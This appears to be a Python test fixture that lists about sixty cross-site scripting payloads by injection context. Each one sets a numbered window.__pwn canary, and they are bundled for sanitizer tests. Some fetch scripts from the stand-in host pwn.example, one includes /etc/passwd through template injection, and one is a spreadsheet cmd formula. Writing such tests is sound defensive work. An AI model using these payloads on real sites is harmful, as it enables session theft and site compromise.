"""Words that try to run, one for each way into a page; ``SCRIPTS`` are the first twenty.

Each sets ``__pwn`` to a number of its own, so that whatever ran can be told. Those that
would swallow what follows them stand last in their bundle.
"""

from __future__ import annotations

from tests.faults.scripts import SCRIPTS

OUT_OF_TEXT = (
    "<img src=x onerror=window.__pwn=21>",
    "<img/src=x/onerror=window.__pwn=22>",
    "<IMG SRC=x OnErRoR=window.__pwn=23>",
    "<img src=x onerror\t=window.__pwn=24>",
    "<img src=x onerror\n=window.__pwn=25>",
    "<<script>window.__pwn=26//<</script>",
    "<script/x>window.__pwn=27</script>",
    "<scr<script>ipt>window.__pwn=28</scr</script>ipt>",
    "<script src=//pwn.example/29.js></script>",
    "<script src=data:text/javascript,window.__pwn=30></script>",
    "<video><source onerror=window.__pwn=31></video>",
    "<audio src=x onerror=window.__pwn=32></audio>",
    "<object data=javascript:window.__pwn=33></object>",
    "<embed src=javascript:window.__pwn=34>",
    "<iframe src=javascript:parent.__pwn=35></iframe>",
    "<form action=javascript:window.__pwn=36><button>go</button></form>",
    "<button formaction=javascript:window.__pwn=37>go</button>",
    "<marquee onstart=window.__pwn=38>x</marquee>",
    "<svg><script>window.__pwn=39</script></svg>",
    "<svg><a xlink:href=javascript:window.__pwn=40><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,%3Csvg%20onload=window.__pwn=41%3E></use></svg>",
    "<svg><set attributeName=onmouseover to=window.__pwn=42></set></svg>",
    "<template><script>window.__pwn=43</script></template>",
    "<math href=javascript:window.__pwn=44>x</math>",
    "<link rel=import href=//pwn.example/45>",
)
OUT_OF_ATTRIBUTES = (
    '" onmouseover=window.__pwn=46 x="',
    "' onmouseover='window.__pwn=47' x='",
    '" autofocus onfocus="window.__pwn=48',
    "` onmouseover=window.__pwn=49 `",
    "x onmouseover=window.__pwn=50 y",
    '" style="background:url(javascript:window.__pwn=51)',
    '"/><script>window.__pwn=52</script>',
    "&quot; onmouseover=&quot;window.__pwn=53",
    "&#34;&#62;&#60;img src=x onerror=window.__pwn=54&#62;",
)
OUT_OF_ADDRESSES = (
    "javascript:window.__pwn=55",
    "JaVaScRiPt:window.__pwn=56",
    "java\tscript:window.__pwn=57",
    "\u0001javascript:window.__pwn=58",
    "data:text/html,<script>parent.__pwn=59</script>",
    "//pwn.example/60",
    "https://pwn.example/61",
)
OUT_OF_SCRIPTS_AND_STYLES = (
    "';window.__pwn=62;//",
    '";window.__pwn=63;//',
    "\\';window.__pwn=64;//",
    "`${window.__pwn=65}`",
    "\u2028window.__pwn=66//",
    "</script><script>window.__pwn=67</script>",
    "*/}body{background:url(//pwn.example/68)}/*",
    "}</style><script>window.__pwn=69</script>",
    "]]><script>window.__pwn=70</script>",
    "{{constructor.constructor('window.__pwn=71')()}}",
    "{% include '/etc/passwd' %}{{ __pwn }}",
)
OTHERWISE = (
    "+ADw-script+AD4-window.__pwn=73+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.__pwn=74%3C/script%3E",
    "\u202e<script>window.__pwn=75</script>",
    "<img hx-get=/keep/ hx-trigger=load hx-vals='js:{a:window.__pwn=76}'>",
    "<a data-hx-get=/keep/ data-hx-trigger=load data-hx-on::load=window.__pwn=77>x</a>",
    "=cmd|'/c __pwn'!A0",
)
SWALLOWING = (
    "<textarea>window.__pwn=79",
    "<!-- window.__pwn=80",
    "<plaintext>window.__pwn=81",
)
PAYLOADS = (
    *SCRIPTS,
    *OUT_OF_TEXT,
    *OUT_OF_ATTRIBUTES,
    *OUT_OF_ADDRESSES,
    *OUT_OF_SCRIPTS_AND_STYLES,
    *OTHERWISE,
    *SWALLOWING,
)


def bundles(number: int) -> list[str]:
    """Return all payloads in so many bundles, with a payload of every kind in each."""
    return ["\n".join(PAYLOADS[start::number]) for start in range(number)]
